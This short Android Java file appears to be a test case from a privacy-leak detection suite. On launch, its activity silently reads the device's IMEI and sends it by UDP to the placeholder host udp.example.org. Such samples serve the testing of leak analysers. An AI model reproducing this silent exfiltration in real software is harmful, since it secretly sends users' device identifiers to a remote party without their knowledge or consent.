package cn.privlens.suite.datagram;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        byte[] data = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes();
        new Thread(() -> {
            try {
                DatagramSocket s = new DatagramSocket();
                s.send(new DatagramPacket(data, data.length, InetAddress.getByName("udp.example.org"), 5000));
                s.close();
            } catch (IOException e) {
                Log.w("suite", "net");
            }
        }).start();
    }
}
